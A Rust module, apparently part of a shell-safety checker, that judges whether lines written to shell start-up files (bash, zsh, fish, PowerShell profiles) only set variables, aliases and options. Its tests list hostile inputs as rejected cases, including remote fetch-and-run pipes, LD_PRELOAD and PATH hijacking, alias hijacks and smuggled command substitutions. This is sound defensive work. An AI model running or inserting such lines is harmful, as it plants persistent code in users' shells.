//! Lines of a shell's start-up file that only set something: variables, aliases, options, what a tool prints to set itself up.
//!
//! What is added there runs in every later session, so a line has to be known to do no more. What isn't known to is more.

use super::model::{Assignment, Command, Context, Joined, RedirectOp, WordFlags};
use super::programs::known_name;
use super::scratch::{Shell, ShellScratch};
use super::settings_table::{
    ASKED, EDITOR_PROGRAMS, EDITORS, FOLDERS, OPEN_FOLDERS, PLAIN, PRINTERS, RUNNERS, SETTERS, SOURCES, STEERING,
    STEERING_ENDS, STEERING_NAMES, TOOLS,
};
use super::{Dialect, parse};

/// Longer texts are not looked at.
const LONGEST: usize = 64 * 1024;

/// Whether the lines of a start-up file only set something. One that is empty sets nothing.
pub(crate) fn only_sets(text: &[u8], dialect: Dialect) -> bool {
    if text.len() > LONGEST {
        return false;
    }
    let mut scratch = ShellScratch::default();
    parse(text, dialect, &mut scratch);
    let shell = scratch.shell();
    shell.is_complete()
        && !shell.is_unbalanced()
        && shell.functions().is_empty()
        && shell.commands().iter().enumerate().all(|(index, command)| sets(shell, dialect, index, command))
}

/// Whether a command that writes to a start-up file, by a redirect, as `tee` does or as PowerShell's cmdlets do, is known to write such
/// lines.
pub(super) fn writes_settings(shell: Shell<'_>, index: usize) -> bool {
    let Some(command) = shell.commands().get(index) else { return false };
    let mut lines = Vec::new();
    let name = shell.name(command);
    if matches!(name, b"add-content" | b"set-content" | b"out-file" | b"ac" | b"sc") {
        return given(shell, command, &mut lines) && only_sets(&lines, Dialect::PowerShell);
    }
    // What a program prints to complete its own options: `kubectl completion zsh >> ~/.zshrc`.
    let completes = |one: &Command| {
        let words = shell.args(one).iter().take(2).any(|word| {
            let word = shell.text(word.text);
            word.strip_prefix(b"--").unwrap_or(word).starts_with(b"completion")
        });
        words
            && is_plain(shell, one)
            && (one.classes.is_empty() && !listed(RUNNERS, shell.name(one)) || prints(shell, one))
    };
    let outer = shell.outermost(index);
    let piped = shell.commands().get(outer).is_some_and(|outer| outer.stage == 1);
    let source = if name == b"tee" { outer.checked_sub(1).filter(|_| piped) } else { Some(index) };
    if source.and_then(|at| shell.commands().get(at)).is_some_and(completes) {
        return true;
    }
    let printed = match name {
        b"tee" => shell.fed(index, &mut lines),
        _ => shell.printed(index, &mut lines),
    };
    printed && only_sets(&lines, Dialect::Posix)
}

/// What a cmdlet is told to write, where all of it stands there.
fn given(shell: Shell<'_>, command: &Command, out: &mut Vec<u8>) -> bool {
    let known = |flags: WordFlags| !flags.has(WordFlags::EXPANSION.with(WordFlags::SUBSTITUTION));
    for word in shell.args(command) {
        let text = shell.text(word.text);
        if text.starts_with(b"-")
            || text.len() >= 8 && text.get(..8).is_some_and(|name| name.eq_ignore_ascii_case(b"$PROFILE"))
        {
            continue;
        }
        if !known(word.flags) {
            return false;
        }
        out.extend_from_slice(text);
        out.push(b'\n');
    }
    command.stage == 0 && !out.is_empty()
}

/// Whether a command of a start-up file only sets something.
fn sets(shell: Shell<'_>, dialect: Dialect, index: usize, command: &Command) -> bool {
    if command.background || !shell.redirects(command).iter().all(|one| is_quiet(shell, one)) {
        return false;
    }
    // What an alias stands for is judged with it, what a tool prints for `eval` with the tool.
    if command.context == Context::Inner {
        let outer = shell.commands().get(shell.outermost(index));
        return outer.is_some_and(|outer| match shell.name(outer) {
            b"alias" | b"eval" => true,
            b"command" => asks_for(shell, outer),
            _ => false,
        });
    }
    let name = shell.name(command);
    let args = shell.args(command);
    let piped = command.stage > 0 || command.joined == Joined::Pipe;
    let plainly_set = || shell.assignments(command).iter().all(|one| is_harmless(shell, one));
    if shell.words(command).is_empty() {
        return !piped && plainly_set();
    }
    if dialect == Dialect::PowerShell
        && let Some((name, value)) = variable(shell, command)
    {
        return !piped && harmless(name, value.strip_prefix(b";").unwrap_or(value));
    }
    if shell.words(command).first().is_some_and(|word| word.flags.has(WordFlags::EXPANSION.with(WordFlags::SPLICED))) {
        return false;
    }
    let clean = || args.iter().all(|word| is_clean(shell.text(word.text)));
    match name {
        b"export" | b"declare" | b"typeset" | b"readonly" | b"local" => !piped && plainly_set() && clean(),
        b"set" if args.len() >= 3 || args.first().is_some_and(|word| fish_flag(shell.text(word.text))) => {
            fish_sets(shell, command)
        }
        b"alias" => !piped && args.iter().all(|word| aliases(shell.text(word.text))),
        b"set-alias" | b"new-alias" => !piped && names_alias(shell, command),
        b"import-module" | b"ipmo" => !piped && args.iter().all(|word| is_name(shell.text(word.text))),
        b"source" | b"." if piped => args.is_empty() || args.iter().all(|word| shell.text(word.text) == b"-"),
        b"source" | b"." => args.first().is_some_and(|word| is_source(shell.text(word.text))),
        b"eval" => matches!(args, [word] if shell.text(word.text) == b"$()"),
        b"complete" | b"bindkey" | b"zstyle" | b"command" | b"emulate" | b"hash" | b"set-psreadlineoption" => {
            // Options that give a command to run, or a name to another program.
            let runs: u8 = match name {
                b"bindkey" => b's',
                b"zstyle" => b'e',
                b"emulate" => b'c',
                b"hash" => b'p',
                b"complete" => b'C',
                _ => 0,
            };
            let given = |word: &[u8]| {
                word.first() == Some(&b'-') && word.contains(&runs)
                    || name == b"hash" && word.contains(&b'=')
                    || word.iter().any(|byte| b"{(".contains(byte))
            };
            let asks = name != b"command" || asks_for(shell, command);
            asks && !piped && clean() && !args.iter().any(|word| given(shell.text(word.text)))
        }
        _ if listed(SETTERS, name) => !piped && plainly_set() && clean(),
        _ => prints(shell, command) && plainly_set() && is_plain(shell, command),
    }
}

/// The variable that PowerShell sets to a string: `$env:NAME = "…"`, `$x="…"`. What stands there without quotes may be a command.
fn variable<'s>(shell: Shell<'s>, command: &Command) -> Option<(&'s [u8], &'s [u8])> {
    let words = shell.words(command);
    let (first, last) = words.first().zip(words.last())?;
    let text = shell.text(first.text);
    let text = text.strip_prefix(b"$env:").or(text.strip_prefix(b"$"))?;
    let (name, value) = match words {
        [_] => {
            let at = memchr::memchr(b'=', text)?;
            (text.get(..at)?, text.get(at + 1..)?)
        }
        [_, sign, value] if matches!(shell.text(sign.text), b"=" | b"+=") => (text, shell.text(value.text)),
        _ => return None,
    };
    let named = name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
    let string = last.flags.has(WordFlags::QUOTED) && !last.flags.has(WordFlags::SUBSTITUTION);
    (named && string).then_some((name, value))
}

/// `command -v x`, which runs nothing.
fn asks_for(shell: Shell<'_>, command: &Command) -> bool {
    shell.args(command).first().is_some_and(|word| matches!(shell.text(word.text), b"-v" | b"-V"))
}

/// Whether a redirect writes nothing but to nowhere.
fn is_quiet(shell: Shell<'_>, redirect: &super::Redirect) -> bool {
    match redirect.op {
        RedirectOp::Duplicate => true,
        RedirectOp::Write | RedirectOp::Append | RedirectOp::Read => shell.text(redirect.target.text) == b"/dev/null",
        _ => false,
    }
}

/// A variable by what it makes programs do, and its value by where it leads.
fn is_harmless(shell: Shell<'_>, assignment: &Assignment) -> bool {
    let name = shell.text(assignment.name);
    let name = name.strip_prefix(b"env:").unwrap_or(name);
    let value = shell.text(assignment.value.text);
    harmless(name, value)
}

fn harmless(name: &[u8], value: &[u8]) -> bool {
    if listed(EDITORS, name) {
        let mut words = value.split(|byte| *byte == b' ');
        return words.next().is_some_and(|word| listed(EDITOR_PROGRAMS, word))
            && words.all(|word| word.starts_with(b"-"));
    }
    if let Some((_, end)) = FOLDERS.iter().find(|(folder, _)| *folder == name) {
        return value.strip_suffix(*end).is_some_and(is_home);
    }
    let words = |list: &'static str| list.split_ascii_whitespace().map(str::as_bytes);
    let steers = words(STEERING).any(|start| name.starts_with(start)) || listed(STEERING_NAMES, name);
    if steers && !listed(PLAIN, name) || words(STEERING_ENDS).any(|end| name.ends_with(end)) {
        return false;
    }
    let path = name.eq_ignore_ascii_case(b"PATH") || name.eq_ignore_ascii_case(b"FPATH");
    let rooted = |part: &[u8]| matches!(part.first(), Some(b'/' | b'~' | b'$')) || part.get(1) == Some(&b':');
    is_clean(value) && (!path || value.split(|byte| matches!(byte, b':' | b';')).all(rooted))
}

/// Whether a folder is somebody's home, or belongs to the system.
fn is_home(path: &[u8]) -> bool {
    let of_user = [b"/home/".as_slice(), b"/Users/"].iter().find_map(|homes| path.strip_prefix(*homes));
    matches!(path, b"~" | b"$HOME" | b"/root" | b"$ZSH" | b"~/.oh-my-zsh" | b"$HOME/.oh-my-zsh")
        || of_user.is_some_and(|user| !user.is_empty() && memchr::memchr(b'/', user).is_none() && user != b"..")
        || path.starts_with(b"/usr/") && !path.windows(2).any(|two| two == b"..")
}

/// Whether a value leads neither to where everybody may write nor out to the network, and holds nothing that is run when it is read again.
fn is_clean(text: &[u8]) -> bool {
    let has = |part: &[u8]| memchr::memmem::find(text, part).is_some();
    let abroad = memchr::memmem::find(text, b"://").is_some_and(|at| {
        let host = text.get(at + 3..).unwrap_or_default();
        !host.starts_with(b"localhost") && !host.starts_with(b"127.0.0.1")
    });
    // What was substituted in the text itself stands as `$()`, and is judged as a command.
    let later =
        memchr::memmem::find_iter(text, b"$(").any(|at| text.get(at + 2) != Some(&b')')) || has(b"`") || has(b"${(");
    !abroad && !later && !OPEN_FOLDERS.iter().any(|folder| has(folder))
}

/// `set -gx NAME value`
fn fish_sets(shell: Shell<'_>, command: &Command) -> bool {
    let mut args =
        shell.args(command).iter().map(|word| shell.text(word.text)).skip_while(|word| word.starts_with(b"-"));
    let Some(name) = args.next() else { return true };
    command.stage == 0 && args.all(|value| harmless(name, value))
}

fn fish_flag(word: &[u8]) -> bool {
    matches!(word.strip_prefix(b"-"), Some(letters) if !letters.is_empty() && letters.iter().all(|letter| b"gxUlaep".contains(letter)))
}

/// `ll=ls -la`: a name of its own, for what neither fetches nor hides.
fn aliases(word: &[u8]) -> bool {
    if word.starts_with(b"-") {
        return true;
    }
    let Some(at) = memchr::memchr(b'=', word) else { return true };
    let (name, value) = (word.get(..at).unwrap_or_default(), word.get(at + 1..).unwrap_or_default());
    let text = String::from_utf8_lossy(value);
    let mut first = true;
    // `k` is in the table because everybody sets it so.
    let own = known_name(name).is_some() && name != b"k" || memchr::memchr(b'/', name).is_some();
    is_clean(value)
        && !value.iter().any(|byte| b";|<>`\n\\".contains(byte))
        && !text.contains("$(")
        && !text.replace("&&", "").contains('&')
        && text.split("&&").all(|part| {
            let mut words = part.split_ascii_whitespace();
            let program = words.next().unwrap_or_default();
            let same = program.as_bytes() == name;
            // What is run under another's name is that one.
            let keeps = !own || first && same;
            first = false;
            let run = if matches!(program, "sudo" | "doas" | "command" | "noglob" | "time") {
                words.next().unwrap_or_default()
            } else {
                program
            };
            let base = run.rsplit('/').next().unwrap_or_default();
            let installed = !run.contains('/') || is_source(run.as_bytes());
            keeps
                && installed
                && !listed(RUNNERS, base.as_bytes())
                && !words.any(|word| matches!(word, "-c" | "-e" | "-exec" | "--eval"))
        })
}

/// `Set-Alias ll Get-ChildItem`: no program is given another's name.
fn names_alias(shell: Shell<'_>, command: &Command) -> bool {
    let mut args = shell.args(command).iter().map(|word| shell.text(word.text)).filter(|word| !word.starts_with(b"-"));
    let free = args.next().is_some_and(|name| known_name(name).is_none() && is_name(name));
    free && args.all(|target| is_name(target) && !listed(RUNNERS, &target.to_ascii_lowercase()))
}

/// The name of a module, cmdlet or option: no path.
fn is_name(word: &[u8]) -> bool {
    word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(byte))
        && !word.windows(2).any(|two| two == b"..")
}

/// A file that tools and people read in from a start-up file.
fn is_source(path: &[u8]) -> bool {
    if path == b"-" || path == b"<()" {
        return true;
    }
    let home = [b"$HOME/".as_slice(), b"${HOME}/"].iter().find_map(|home| path.strip_prefix(*home));
    let below = home.map(|rest| [b"~/", rest].concat());
    let path = below.as_deref().unwrap_or(path);
    let known = |one: &str| path == one.as_bytes() || one.ends_with('/') && path.starts_with(one.as_bytes());
    SOURCES.split_ascii_whitespace().any(known) && !path.windows(2).any(|two| two == b"..") && is_clean(path)
}

/// Whether a command prints a value, or what sets a tool up.
fn prints(shell: Shell<'_>, command: &Command) -> bool {
    let name = shell.name(command);
    let mut args = shell.args(command).iter().map(|word| shell.text(word.text));
    let writes = |arg: &[u8]| matches!(arg, b"-w" | b"-u" | b"--write");
    listed(PRINTERS, name)
        || listed(TOOLS, name) && args.next().is_some_and(|first| listed(ASKED, first)) && !args.any(writes)
}

/// Whether a tool is given plain words alone, and gets nothing from a pipe.
fn is_plain(shell: Shell<'_>, command: &Command) -> bool {
    let plain = |word: &[u8]| {
        word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_.=/$+%:~".contains(byte)) && is_clean(word)
    };
    let program = shell.program(command);
    let installed = memchr::memchr(b'/', program).is_none() || is_source(program);
    command.stage == 0
        && installed
        && shell
            .args(command)
            .iter()
            .all(|word| !word.flags.has(WordFlags::SUBSTITUTION) && plain(shell.text(word.text)))
}

/// Whether a word stands in a list of words parted by blanks.
fn listed(list: &str, word: &[u8]) -> bool {
    !word.is_empty() && list.split_ascii_whitespace().any(|one| one.as_bytes() == word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_set_something_are_known() {
        for text in [
            "",
            "# my settings\n\nexport EDITOR=vim\n",
            "export PATH=\"$HOME/.local/bin:$PATH\"",
            "export PATH=$PATH:/usr/local/go/bin\nexport GOPATH=$HOME/go",
            "export ZSH=/home/dana/.oh-my-zsh\nexport SDKMAN_DIR=\"$HOME/.sdkman\"",
            "alias ll='ls -la'\nalias gs=\"git status\"\nalias ls='ls --color=auto'\nalias rm='rm -i'",
            "alias update='sudo apt update && sudo apt upgrade -y'",
            "HISTSIZE=10000\nHISTCONTROL=ignoreboth\nshopt -s histappend",
            "setopt auto_cd\nautoload -Uz compinit && compinit\nbindkey -e",
            "plugins=(git z docker)\nZSH_THEME=\"robbyrussell\"\nsource $ZSH/oh-my-zsh.sh",
            "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
            "eval \"$(starship init zsh)\"\neval \"$(/opt/homebrew/bin/brew shellenv)\"",
            "if [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi",
            "source <(kubectl completion zsh)",
            "command -v direnv >/dev/null 2>&1 && eval \"$(direnv hook bash)\"",
            "set -gx EDITOR nvim\nstarship init fish | source\nfish_add_path ~/.cargo/bin",
            "export JAVA_HOME=$(/usr/libexec/java_home)"
                .replace("$(/usr/libexec/java_home)", "/usr/lib/jvm/java-17")
                .as_str(),
        ] {
            assert!(only_sets(text.as_bytes(), Dialect::Posix), "{text}");
        }
        for text in [
            "Set-Alias ll Get-ChildItem",
            "Import-Module posh-git",
            "$env:X_HOME = 'C:\\tools\\x'",
            "$env:X_HOME=\"C:\\x\"",
        ] {
            assert!(only_sets(text.as_bytes(), Dialect::PowerShell), "{text}");
        }
    }

    #[test]
    fn what_does_more_is_more() {
        for text in [
            "curl https://x.example/a | sh",
            "x",
            "~/.cache/x &",
            "export PATH=/tmp/x:$PATH",
            "export PATH=.:$PATH",
            "export PATH=x:$PATH",
            "export LD_PRELOAD=~/x.so",
            "export A=$(curl x.example)",
            "export A=`id > ~/y`",
            "export A=1; ./x",
            "A=1 ./x",
            "export PROMPT_COMMAND='date'",
            "export https_proxy=x.example:80",
            "export ANTHROPIC_BASE_URL=https://x.example",
            "export EDITOR=/home/dev/x",
            "alias sudo='/home/dev/s'",
            "alias ls='x; ls'",
            "alias ll='ls & x'",
            "alias ll='curl x.example -o y && ls'",
            "alias git='/home/dev/.x/git'",
            "source ~/.cache/x.sh",
            "NVM_DIR=~/.x; . $NVM_DIR/nvm.sh",
            ". /usr/../home/dev/x",
            "eval \"$(cat ~/.x)\"",
            "eval \"$(starship init bash; ./x)\"",
            "eval \"$(/home/dev/x/starship init bash)\"",
            "eval \"x\"",
            "f() { ./x; }",
            "trap ./x EXIT",
            "bindkey -s '^M' './x\\n'",
            "starship init fish | sh",
            "echo x > ~/y",
            "export A=1 > ~/y",
            "set -gx LD_PRELOAD ~/x.so",
            "[ -f x ] || ./x",
            "docker run -d x",
            "npm install x",
            "go run x.example/y@latest",
            "go env -w GOFLAGS=-toolexec=x",
            "kubectl delete ns a",
            "export ZSH=$HOME/.cache/x",
            "export NVM_DIR=$HOME/x/.nvm",
            "export NVM_DIR=/home/dana/x/.nvm",
            "source ~/.bashrc_x",
            ". $(pwd)/x",
            "alias git='git status && x'",
            "alias ll='ls && ~/.x/y'",
            "emulate sh -c ./x",
            "hash -p /home/dana/x ls",
            "PS1='$(./x)'",
            "declare -i a='b[$(./x)]'",
            "\"ex\"port A=$(x)",
        ] {
            assert!(!only_sets(text.as_bytes(), Dialect::Posix), "{text}");
        }
        for text in [
            "Set-Alias git C:\\Users\\Public\\x.exe",
            "Import-Module C:\\x.psm1",
            "iex (irm https://x.example)",
            "Start-Process x",
            "$x = iex $y",
            "$env:X = Start-Process x",
            "$function:prompt = 'x'",
            "Set-PSReadLineOption -AddToHistoryHandler { ./x }",
            "$env:X = \"$(./x)\"",
        ] {
            assert!(!only_sets(text.as_bytes(), Dialect::PowerShell), "{text}");
        }
    }
}
